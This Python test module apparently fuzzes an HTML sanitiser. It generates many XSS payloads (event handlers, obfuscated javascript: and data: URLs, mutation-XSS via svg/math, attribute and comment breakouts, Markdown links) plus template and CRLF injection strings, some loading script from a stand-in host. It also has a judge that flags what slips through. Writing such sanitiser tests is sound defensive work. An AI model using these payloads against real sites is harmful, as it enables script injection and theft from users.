"""Texts made to run a script in a reader's browser, and a judge that says where one got through.

The shapes are those by which it has been done elsewhere: handlers on any element, addresses that run, elements that load or frame, raw text left open,
an attribute or comment broken out of, foreign elements that make a browser read again what a sanitiser let pass, styles, and Markdown that becomes one
of these. Each calls `hit()`, so that a browser can tell. `texts` draws them at random, wrapped, nested, cut and bent; the same seed gives the same.
"""

import random
import re
from collections.abc import Iterator
from html.parser import HTMLParser

from weeknotes.prose.html import ATTRIBUTES, KEPT

RUN = "hit()"
_ELEMENTS = (
    "img src=x", "img src", "image src=x", "svg", "svg/", "body", "video src=x", "video><source src=x", "audio src=x", "details open", "input autofocus", "input type=image src=x",
    "select autofocus", "textarea autofocus", "keygen autofocus", "marquee", "iframe", "iframe src=x", "object data=x", "embed src=x", "math", "a href=x", "p", "div", "form", "button",
    "button popovertarget=x", "style", "link rel=stylesheet href=x", "table", "td", "li", "h2", "h3 data-audience=team", "blockquote", "figure", "figcaption", "code", "meta", "x", "o:p", "dialog open",
    "portal src=x", "svg><animate attributeName=x dur=1s", "svg><set attributeName=x", "svg><use href=x", "math><mi", "frameset", "isindex", "bgsound", "track", "slot", "template", "noscript",
)  # fmt: skip
_EVENTS = (
    "onerror", "onload", "onclick", "onfocus", "onmouseover", "onpointerenter", "ontoggle", "onstart", "onbegin", "onanimationstart", "onanimationend", "ontransitionend", "onbeforetoggle",
    "onpageshow", "onhashchange", "onscroll", "onwheel", "oncopy", "onpaste", "oncut", "onsubmit", "oninput", "oninvalid", "onresize", "onafterprint", "onmessage", "onbeforescriptexecute",
    "oncontentvisibilityautostatechange", "ONERROR", "oNlOaD", "on\x00error", "onerror\x0b", "formaction", "xlink:onload",
)  # fmt: skip
_SCHEMES = (
    "javascript:hit()", "JaVaScRiPt:hit()", " javascript:hit()", "\x01javascript:hit()", "java\tscript:hit()", "java\nscript:hit()", "java\rscript:hit()", "javascript\t:hit()", "javascript&colon;hit()",
    "&#106;avascript:hit()", "&#x6A;avascript:hit()", "&#0000106avascript:hit()", "jav&Tab;ascript:hit()", "jav&NewLine;ascript:hit()", "java&#x09;script:hit()", "&#1;javascript:hit()",
    "javascript://%0ahit()", "javascript:/*--></title></style></script>*/hit()", "vbscript:hit()", "livescript:hit()", "data:text/html,<script>hit()</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=hit() xmlns='http://www.w3.org/2000/svg'>", "data:application/javascript,hit()", "blob:x", "filesystem:x",
    "//elsewhere.example/x", "\\\\elsewhere.example\\x", "https:javascript:hit()", "javascript:hit()//https://", "view-source:x", "mhtml:x", "feed:javascript:hit()", "http:\njavascript:hit()", "javascript\u2028:hit()",
    "\ufeffjavascript:hit()", "\u00a0javascript:hit()", "javascrip\u0442:hit()",
)  # fmt: skip
_TAKES_ADDRESS = (
    ("a", "href"), ("a", "xlink:href"), ("a", "ping"), ("area", "href"), ("img", "src"), ("img", "srcset"), ("img", "lowsrc"), ("img", "longdesc"), ("iframe", "src"), ("iframe", "srcdoc"), ("embed", "src"), ("object", "data"),
    ("form", "action"), ("button", "formaction"), ("input", "formaction"), ("base", "href"), ("link", "href"), ("script", "src"), ("body", "background"), ("table", "background"), ("video", "poster"), ("blockquote", "cite"),
    ("svg><a", "xlink:href"), ("svg><script", "href"), ("svg><image", "href"), ("svg><animate attributeName=href", "values"), ("math", "href"), ("math><maction actiontype=statusline xlink:href=x", "href"), ("meta http-equiv=refresh", "content"),
    ("applet", "code"), ("frame", "src"), ("source", "src"), ("use", "href"), ("del", "cite"),
)  # fmt: skip
_WHOLE = (
    "<script>hit()</script>", "<ScRiPt>hit()</sCrIpT>", "<script/x>hit()</script>", "<script\n>hit()</script\n>", "<scr<script>ipt>hit()</scr</script>ipt>", "<<script>hit()//<</script>", "<script>hit()", "<script src=//elsewhere.example/x>",
    "<script type=module>hit()</script>", "<script type=text/template><img src=x onerror=hit()></script>", "<svg><script>hit()</script></svg>", "<svg><script>&#104;it()</script></svg>", "<svg><style><img src=x onerror=hit()></style></svg>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>", "<textarea><p title='</textarea><img src=x onerror=hit()>'>", "<title><p title='</title><img src=x onerror=hit()>'>", "<style><p title='</style><img src=x onerror=hit()>'>",
    "<xmp><p title='</xmp><img src=x onerror=hit()>'>", "<iframe><p title='</iframe><img src=x onerror=hit()>'>", "<noembed><p title='</noembed><img src=x onerror=hit()>'>", "<plaintext><img src=x onerror=hit()>",
    "<template><img src=x onerror=hit()></template>", "<svg></p><style><a id='</style><img src=x onerror=hit()>'>", "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=hit()>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit()>", "<math><annotation-xml encoding='text/html'><p><img src=x onerror=hit()>", "<svg><foreignObject><p><img src=x onerror=hit()></foreignObject></svg>",
    "<svg><desc><p><style><img src=x onerror=hit()></style></desc></svg>", "<table><td><svg><td><style><img src=x onerror=hit()>", "<select><template><img src=x onerror=hit()></template></select>", "<math><mi><style><img src=x onerror=hit()>",
    "<!--><img src=x onerror=hit()>-->", "<!--!><img src=x onerror=hit()>", "<!-- --!><img src=x onerror=hit()>", "<![CDATA[><img src=x onerror=hit()>]]>", "<?xml ><img src=x onerror=hit()>?>", "<!doctype x [<!entity y '<img src=x onerror=hit()>'>]>&y;",
    "</p/onclick=hit()><img src=x onerror=hit()>", "<img src='x' alt='`><img src=x onerror=hit()>`'>", "<a href='x' title='\"><img src=x onerror=hit()>'>x</a>", "<img alt='<noscript><style></noscript><img src=x onerror=hit()>'>",
    "<p lang='\"><img src=x onerror=hit()>'>x", "<h2 data-audience='me\" onclick=\"hit()'>x</h2>", "<a id='fn-x\" onclick=\"hit()' href='#fnref-x'>1</a>", "<sup><a href='#fn-\" onclick=\"hit()'>1</a></sup>", "<img src='/media/x\" onerror=\"hit()'>",
    "<style>@import 'https://elsewhere.example/x'</style>", "<p style='background:url(javascript:hit())'>", "<p style='width:expression(hit())'>", "<p style=\"animation-name:x\" onanimationstart=hit()>", "<link rel=import href=x>",
    "<base href='javascript:hit()//'><a href=x>y</a>", "<meta http-equiv=refresh content='0;url=javascript:hit()'>", "<a href=javascript:hit() href=x>y</a>", "<a href=x href=javascript:hit()>y</a>", "<img src=x:x onerror=hit()//", "<img src=x onerror=hit()",
    "<embed src='//elsewhere.example/x.swf' allowscriptaccess=always>", "<div id=hit><form id=x><input name=attributes>", "<form id=document><input name=cookie>", "<iframe srcdoc='<script>parent.hit()</script>'>", "<object><param name=src value=javascript:hit()></object>",
)  # fmt: skip
_BREAKS = (
    "\"><img src=x onerror=hit()>", "'><img src=x onerror=hit()>", "\" autofocus onfocus=hit() x=\"", "' onmouseover=hit() x='", "--><img src=x onerror=hit()>", "]]><img src=x onerror=hit()>", "</title><script>hit()</script>",
    "</script><script>hit()</script>", "</textarea><script>hit()</script>", "</style><script>hit()</script>", "\";hit();//", "';hit();//", "\\\";hit();//", "${hit()}", "{{hit()}}", "{% print hit() %}", "{{ ''.__class__ }}", "\u2028hit()//", "%0d%0aX: y", "\r\nX: y",
    "&quot;&gt;&lt;img src=x onerror=hit()&gt;", "\\u003cimg src=x onerror=hit()\\u003e", "<!--<script>", "\x00\"><img src=x onerror=hit()>", "javascript:hit()", "+ADw-script+AD4-hit()", "＜script＞hit()＜/script＞", "‹img src=x onerror=hit()›", "\u202e\"><img src=x onerror=hit()>",
)  # fmt: skip
_MARKDOWN = (
    "[x](javascript:hit())", "[x](<javascript:hit()>)", "[x](java\tscript:hit())", "[x](&#106;avascript:hit())", "![x](javascript:hit())", "![x](x\"onerror=\"hit())", "![\"onerror=\"hit()](x)", "[x]: javascript:hit()\n\n[x]", "<javascript:hit()>",
    "[x](x \"><img src=x onerror=hit()>\")", "```<img src=x onerror=hit()>\nx\n```", "~~~\"><img src=x onerror=hit()>\n~~~", "`</code><img src=x onerror=hit()>`", "# x {audience=me\" onclick=\"hit()}", "[^x]\n\n[^x]: <img src=x onerror=hit()>", "[^\"onclick=hit()]\n\n[^\"onclick=hit()]: x",
    "| <img src=x onerror=hit()> |\n|---|\n| [x](javascript:hit()) |", "> <script>hit()</script>", "1. <svg onload=hit()>", "<p>\n\n<script>\n\nhit()\n\n</script>", "[x](data:text/html,<script>hit()</script>)", "*<b onclick=hit()>*", "&lt;script&gt;hit()&lt;/script&gt;",
)  # fmt: skip
_AROUND = (
    "{}", "<p>{}</p>", "<ul><li>{}</li></ul>", "<h2>{}</h2>", "<blockquote>{}", "<table><tr><td>{}</td></tr></table>", "<a href='/x'>{}</a>", "<figure><img src='/media/x'><figcaption>{}</figcaption></figure>", "<pre><code>{}</code></pre>", "<div><section>{}",
    "Rain all week. {} And on Tuesday.", "\n\n{}\n\n", "<p title=\"{}\">x</p>", "<img alt=\"{}\" src=\"/media/x\">", "<img alt='{}' src=x>", "<a href=\"{}\">x</a>", "<!-- {} -->", "<svg>{}</svg>", "<math>{}</math>", "<noscript>{}</noscript>", "<select>{}</select>", "<b><i>{}</b></i>",
)  # fmt: skip
_BETWEEN = (" ", "/", "\n", "\t", "\x0c", "\r", " / ", "\x00", "//", "\u00a0")
_QUOTES = ("", '"', "'", "`", "&quot;")


def texts(count: int, *, seed: str = "hostile") -> Iterator[str]:
    """So many of them: first each shape as it stands, then drawn."""
    dice = random.Random(seed)
    yield from (*_WHOLE, *_BREAKS, *_MARKDOWN)[:count]
    for _ in range(count - len((*_WHOLE, *_BREAKS, *_MARKDOWN))):
        yield _drawn(dice)


def fields(count: int, *, seed: str = "fields") -> list[str]:
    """So many for one line of a form: a name, a title, a tag."""
    dice = random.Random(seed)
    return [*_BREAKS, *(dice.choice((_element, _addressed))(dice) for _ in range(count))][:count]


def _drawn(dice: random.Random) -> str:
    text = "".join(_shape(dice) for _ in range(dice.choice((1, 1, 1, 2, 3))))
    for _ in range(dice.choice((0, 1, 1, 2, 3))):
        text = dice.choice(_AROUND).replace("{}", text)
    return _bent(dice, text) if dice.random() < 0.4 else text


def _shape(dice: random.Random) -> str:
    how = dice.random()
    if how < 0.3:
        return _element(dice)
    if how < 0.55:
        return _addressed(dice)
    return dice.choice(dice.choice((_WHOLE, _WHOLE, _BREAKS, _MARKDOWN)))


def _element(dice: random.Random) -> str:
    quote = dice.choice(_QUOTES)
    return f"<{_cased(dice, dice.choice(_ELEMENTS))}{dice.choice(_BETWEEN)}{dice.choice(_EVENTS)}{dice.choice(('=', ' = ', '=&#x20;'))}{quote}{RUN}{quote}{dice.choice(('>', '>x', ' ', '/>', '<'))}"


def _addressed(dice: random.Random) -> str:
    tag, attribute = dice.choice(_TAKES_ADDRESS)
    quote = dice.choice(_QUOTES)
    return f"<{_cased(dice, tag)}{dice.choice(_BETWEEN)}{_cased(dice, attribute)}={quote}{dice.choice(_SCHEMES)}{quote}>x</{tag.split()[0].split('>')[-1]}>"


def _cased(dice: random.Random, text: str) -> str:
    return "".join(dice.choice((sign.lower(), sign.upper())) for sign in text) if dice.random() < 0.2 else text


def _bent(dice: random.Random, text: str) -> str:
    """`text` with a sign written otherwise, put in, left out, or with an end cut off."""
    at = dice.randrange(len(text) + 1)
    how = dice.randrange(6)
    if how == 0:
        return text[:at]
    if how == 1:
        return text[at:]
    if how == 2:
        return text[:at] + dice.choice(("\x00", "\t", "<", ">", '"', "'", "&", "\u200b", "\ud800", "<!--", "-->", "</p>", "<p>")) + text[at:]
    if how == 3 and at < len(text):
        return f"{text[:at]}&#{ord(text[at])};{text[at + 1 :]}"
    if how == 4 and at < len(text):
        return f"{text[:at]}%{ord(text[at]) & 255:02x}{text[at + 1 :]}"
    return text[:at] + text[at + 1 :]


class _Judge(HTMLParser):
    """Reads what came out by a parser that had no part in making it."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in KEPT:
            self.wrong.append(f"<{tag}>")
        for name, value in attrs:
            if name not in ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set()):
                self.wrong.append(f"<{tag} {name}>")
            if name in {"href", "src"} and not may_lead_to(value or ""):
                self.wrong.append(f"<{tag} {name}={value!r}>")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.wrong.append(f"<?{data}>")

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"<!--{data}-->")


def may_lead_to(address: str) -> bool:
    """Whether an address, as a browser reads it (white space and controls around and tabs and line ends within left out), runs nothing."""
    plain = re.sub(r"[\t\n\r]", "", address.strip("".join(map(chr, range(33))))).lower()
    scheme = re.match(r"([a-z][a-z0-9+.-]*):", plain)
    return scheme is None or scheme.group(1) in {"http", "https", "mailto"}


def wrong_in(html: str) -> list[str]:
    """What stands in a text that was cleaned and may not: elements and attributes outside the allow-list, addresses that run, comments."""
    judge = _Judge()
    judge.feed(html)
    judge.close()
    return judge.wrong
